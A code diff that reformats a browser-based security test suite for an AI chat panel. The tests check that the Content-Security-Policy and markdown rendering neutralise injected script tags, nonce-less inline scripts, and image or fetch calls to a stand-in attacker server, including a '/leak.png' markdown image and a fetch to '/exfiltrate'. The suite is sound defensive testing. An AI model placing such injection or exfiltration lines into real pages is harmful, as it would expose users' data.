@@ -1,6 +1,13 @@
 // Model output is only ever text, and the production Content-Security-Policy holds in the real page.
 import { strict as assert } from 'node:assert';
-import { assistantMessage, snapshot, startCountingServer, usePanelHarness, userMessage, type LocalServer } from '../support/panelPage';
+import {
+  assistantMessage,
+  snapshot,
+  startCountingServer,
+  usePanelHarness,
+  userMessage,
+  type LocalServer,
+} from '../support/panelPage';
 
 declare global {
   interface Window {
@@ -44,7 +51,8 @@ describe('panel in Chromium: security', () => {
         { type: 'messageAdded', message: assistantMessage('a1', '', 'streaming') },
       );
       // Split the payloads across deltas, mid-tag, as a stream would.
-      for (let at = 0; at < reply.length; at += 7) await panel.send({ type: 'delta', messageId: 'a1', text: reply.slice(at, at + 7) });
+      for (let at = 0; at < reply.length; at += 7)
+        await panel.send({ type: 'delta', messageId: 'a1', text: reply.slice(at, at + 7) });
       await panel.send({
         type: 'turnEnded',
         messageId: 'a1',
@@ -62,67 +70,96 @@ describe('panel in Chromium: security', () => {
 
       // Replies are rendered as markdown: raw HTML stays text, entities are decoded, and the image is only a
       // placeholder that shows its alt text and its URL.
-      const shown = reply.replace(`![x](${attacker.origin}/leak.png)`, `x${attacker.origin}/leak.png`).replace('&lt;b&gt;entities&lt;/b&gt;', '<b>entities</b>');
+      const shown = reply
+        .replace(`![x](${attacker.origin}/leak.png)`, `x${attacker.origin}/leak.png`)
+        .replace('&lt;b&gt;entities&lt;/b&gt;', '<b>entities</b>');
       assert.equal(await panel.page.locator('.message[data-id="a1"] .message-body').textContent(), shown);
       assert.equal(await panel.page.locator('.message[data-id="a2"] .message-body').textContent(), shown);
       assert.equal(await panel.page.locator('.message[data-id="u1"] .message-body').textContent(), payloads[0]);
       assert.equal(await panel.page.locator('.message[data-id="a1"] .error-title').innerText(), payloads[0]);
       assert.equal(await panel.page.locator('.message[data-id="a1"] .error-detail').innerText(), payloads[2]);
       // The visible text, as a user would read it, contains the markup characters.
-      assert.match(await panel.page.locator('.message[data-id="a1"] .message-body').innerText(), /<script>window\.__pwned=1<\/script>/);
+      assert.match(
+        await panel.page.locator('.message[data-id="a1"] .message-body').innerText(),
+        /<script>window\.__pwned=1<\/script>/,
+      );
 
-      const bodies = await panel.page.$$eval('.message-body', (elements) => elements.map((element) => element.children.length));
-      assert.deepEqual(bodies, [0, 1, 0, 1], 'a user message body has element children, or a reply is not one paragraph');
-      const placeholders = await panel.page.$$eval('.message-body .md-image', (elements) => elements.map((element) => element.textContent));
+      const bodies = await panel.page.$$eval('.message-body', (elements) =>
+        elements.map((element) => element.children.length),
+      );
+      assert.deepEqual(
+        bodies,
+        [0, 1, 0, 1],
+        'a user message body has element children, or a reply is not one paragraph',
+      );
+      const placeholders = await panel.page.$$eval('.message-body .md-image', (elements) =>
+        elements.map((element) => element.textContent),
+      );
       assert.deepEqual(placeholders, [`x${attacker.origin}/leak.png`, `x${attacker.origin}/leak.png`]);
-      const foreign = await panel.page.$$eval('.conversation *', (elements, allowed) => elements.map((element) => element.tagName).filter((tag) => !allowed.includes(tag)), PANEL_TAGS);
+      const foreign = await panel.page.$$eval(
+        '.conversation *',
+        (elements, allowed) => elements.map((element) => element.tagName).filter((tag) => !allowed.includes(tag)),
+        PANEL_TAGS,
+      );
       assert.deepEqual(foreign, []);
       // The bare URL is linkified, but no element in the conversation has anything the browser would follow or load.
-      assert.deepEqual(await panel.page.$$eval('.conversation [href], .conversation [src], .conversation [style]', (elements) => elements.length), 0);
+      assert.deepEqual(
+        await panel.page.$$eval(
+          '.conversation [href], .conversation [src], .conversation [style]',
+          (elements) => elements.length,
+        ),
+        0,
+      );
       assert.equal(await panel.page.evaluate(() => window.__pwned), undefined);
       assert.deepEqual(attacker.requests, []);
       assert.deepEqual(await panel.cspViolations(), [], 'something in the output tried to load or run');
     }));
 
   it('does not run an inline script that lacks the nonce (but does run one with it)', () =>
-    harness.withPanel({ allowCspViolation: (violation) => violation.effectiveDirective === 'script-src-elem' }, async (panel) => {
-      await panel.page.evaluate((nonce) => {
-        const rogue = document.createElement('script');
-        rogue.textContent = 'window.__inline = 1';
-        document.body.append(rogue);
-        // The control: the same injection with the page's nonce runs, so the check above is not vacuous.
-        const trusted = document.createElement('script');
-        trusted.nonce = nonce;
-        trusted.textContent = 'window.__withNonce = 1';
-        document.body.append(trusted);
-      }, panel.nonce);
-      await settle(100);
-      assert.equal(await panel.page.evaluate(() => window.__inline), undefined);
-      assert.equal(await panel.page.evaluate(() => window.__withNonce), 1);
-      const violations = await panel.cspViolations();
-      assert.equal(violations.length, 1, JSON.stringify(violations));
-      assert.equal(violations[0].effectiveDirective, 'script-src-elem');
-    }));
+    harness.withPanel(
+      { allowCspViolation: (violation) => violation.effectiveDirective === 'script-src-elem' },
+      async (panel) => {
+        await panel.page.evaluate((nonce) => {
+          const rogue = document.createElement('script');
+          rogue.textContent = 'window.__inline = 1';
+          document.body.append(rogue);
+          // The control: the same injection with the page's nonce runs, so the check above is not vacuous.
+          const trusted = document.createElement('script');
+          trusted.nonce = nonce;
+          trusted.textContent = 'window.__withNonce = 1';
+          document.body.append(trusted);
+        }, panel.nonce);
+        await settle(100);
+        assert.equal(await panel.page.evaluate(() => window.__inline), undefined);
+        assert.equal(await panel.page.evaluate(() => window.__withNonce), 1);
+        const violations = await panel.cspViolations();
+        assert.equal(violations.length, 1, JSON.stringify(violations));
+        assert.equal(violations[0].effectiveDirective, 'script-src-elem');
+      },
+    ));
 
   it('blocks an image or a request to another host even if the page tried to make one', () =>
-    harness.withPanel({ allowCspViolation: (violation) => ['img-src', 'connect-src'].includes(violation.effectiveDirective) }, async (panel) => {
-      const fetchResult = await panel.page.evaluate(async (origin) => {
-        const image = document.createElement('img');
-        image.src = `${origin}/beacon.png`;
-        document.body.append(image);
-        try {
-          await fetch(`${origin}/exfiltrate`);
-          return 'fetched';
-        } catch {
-          return 'refused';
-        }
-      }, attacker.origin);
-      await settle();
-      assert.equal(fetchResult, 'refused');
-      assert.deepEqual(attacker.requests, []);
-      const directives = (await panel.cspViolations()).map((violation) => violation.effectiveDirective).sort();
-      assert.deepEqual(directives, ['connect-src', 'img-src']);
-    }));
+    harness.withPanel(
+      { allowCspViolation: (violation) => ['img-src', 'connect-src'].includes(violation.effectiveDirective) },
+      async (panel) => {
+        const fetchResult = await panel.page.evaluate(async (origin) => {
+          const image = document.createElement('img');
+          image.src = `${origin}/beacon.png`;
+          document.body.append(image);
+          try {
+            await fetch(`${origin}/exfiltrate`);
+            return 'fetched';
+          } catch {
+            return 'refused';
+          }
+        }, attacker.origin);
+        await settle();
+        assert.equal(fetchResult, 'refused');
+        assert.deepEqual(attacker.requests, []);
+        const directives = (await panel.cspViolations()).map((violation) => violation.effectiveDirective).sort();
+        assert.deepEqual(directives, ['connect-src', 'img-src']);
+      },
+    ));
 
   it('runs a whole conversation with no CSP violation, the codicon font and the styles loaded', () =>
     harness.withPanel({}, async (panel) => {
@@ -135,7 +172,12 @@ describe('panel in Chromium: security', () => {
         { type: 'turnEnded', messageId: 'a1', status: 'stopped', model: 'm', usage: { totalTokens: 3 } },
         { type: 'messageAdded', message: userMessage('u2', 'again') },
         { type: 'messageAdded', message: assistantMessage('a2', '', 'streaming') },
-        { type: 'turnEnded', messageId: 'a2', status: 'error', error: { title: 'Failed', detail: 'x', actions: ['retry', 'showLog'] } },
+        {
+          type: 'turnEnded',
+          messageId: 'a2',
+          status: 'error',
+          error: { title: 'Failed', detail: 'x', actions: ['retry', 'showLog'] },
+        },
       );
       await panel.page.locator('textarea#composer').pressSequentially('typed');
       await panel.page.keyboard.press('Enter');
@@ -146,15 +188,26 @@ describe('panel in Chromium: security', () => {
         document.fonts.forEach((font) => list.push({ family: font.family.replace(/["']/g, ''), status: font.status }));
         return list;
       });
-      assert.deepEqual(fonts.filter((font) => font.family === 'codicon'), [{ family: 'codicon', status: 'loaded' }]);
+      assert.deepEqual(
+        fonts.filter((font) => font.family === 'codicon'),
+        [{ family: 'codicon', status: 'loaded' }],
+      );
       // The icon glyphs are drawn with that font.
-      const iconFont = await panel.page.$eval('button#send .codicon', (element) => getComputedStyle(element, '::before').fontFamily);
+      const iconFont = await panel.page.$eval(
+        'button#send .codicon',
+        (element) => getComputedStyle(element, '::before').fontFamily,
+      );
       assert.match(iconFont, /codicon/);
       assert.equal(await panel.page.$eval('main.app', (element) => getComputedStyle(element).display), 'flex');
       assert.deepEqual(await panel.cspViolations(), []);
       assert.deepEqual(panel.failedRequests, []);
       const loaded = harness.current.assetServer.requests.map((request) => request.replace(/\?.*$/, ''));
-      for (const file of ['/dist/webview.js', '/dist/webview.css', '/dist/codicons/codicon.css', '/dist/codicons/codicon.ttf']) {
+      for (const file of [
+        '/dist/webview.js',
+        '/dist/webview.css',
+        '/dist/codicons/codicon.css',
+        '/dist/codicons/codicon.ttf',
+      ]) {
         assert.ok(loaded.includes(file), `${file} was not loaded: ${loaded.join(', ')}`);
       }
     }));
